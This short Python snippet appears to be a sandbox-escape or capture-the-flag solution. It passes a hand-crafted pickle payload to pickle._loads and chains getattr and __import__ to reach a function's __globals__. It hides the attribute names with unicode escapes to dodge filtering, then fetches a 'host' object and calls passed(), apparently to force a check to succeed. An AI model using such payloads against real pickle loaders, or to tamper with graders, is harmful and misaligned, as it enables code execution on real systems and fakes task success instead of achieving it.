import pickle
data = b"cbuiltins\ngetattr\n(cbuiltins\ngetattr\n(cbuiltins\n__import__\nV__fu\\u006ec__\ntRV__glo\\u0062als__\ntR."
x = pickle._loads(data)
x["host"].passed()
# STARTER
